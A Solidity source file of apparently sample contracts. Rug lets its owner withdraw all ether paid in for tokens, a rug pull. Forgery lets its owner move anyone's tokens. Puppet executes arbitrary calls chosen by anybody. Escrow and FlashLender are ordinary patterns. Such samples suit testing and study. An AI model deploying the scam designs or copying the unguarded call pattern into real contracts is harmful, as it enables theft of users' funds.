pragma solidity 0.8.37;

import "./Token.sol";

/// A token that sells itself for ether, and whose owner takes the ether.
contract Rug is Erc20 {
    address public immutable owner = msg.sender;

    function buy() external payable {
        _mint(msg.sender, msg.value);
    }

    function sell(uint256 amount, address payable to) external {
        _burn(msg.sender, amount);
        _pay(to, amount);
    }

    function pull(address payable to) external {
        require(msg.sender == owner, "only the owner pulls");
        _pay(to, address(this).balance);
    }

    function _pay(address payable to, uint256 amount) private {
        (bool taken, ) = to.call{value: amount}("");
        require(taken, "the ether is not taken");
    }
}

/// A token of which its creator moves the units of everybody.
contract Forgery is Token {
    function move(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "only the owner moves");
        _move(from, to, amount);
    }
}

/// An account whose calls anybody may choose, and that logs nothing.
contract Puppet {
    receive() external payable {}

    /// Makes calls in their order: receivers, amounts and inputs. A call that fails ends it.
    function act(address[] calldata to, uint256[] calldata values, bytes[] calldata inputs) external payable {
        for (uint256 index = 0; index < to.length; index++) {
            (bool success, ) = to[index].call{value: values[index]}(inputs[index]);
            require(success, "a call fails");
        }
    }
}

/// Ether that lies for another, whom only a topic of its log names.
contract Escrow {
    event Opened(uint256 indexed id, address indexed payer, address indexed payee, uint256 amount);

    mapping(address => uint256) public due;
    uint256 public opened;

    function open(address payee) external payable {
        due[payee] += msg.value;
        emit Opened(++opened, msg.sender, payee, msg.value);
    }

    function take(uint256 amount, address payable to) external {
        due[msg.sender] -= amount;
        (bool taken, ) = to.call{value: amount}("");
        require(taken, "the ether is not taken");
    }
}

/// Ether that is lent for the time of one call.
contract FlashLender {
    receive() external payable {}

    function lend(uint256 amount, address to, bytes calldata input) external {
        uint256 before = address(this).balance;
        (bool success, ) = to.call{value: amount}(input);
        require(success && address(this).balance >= before, "it was not paid back");
    }
}
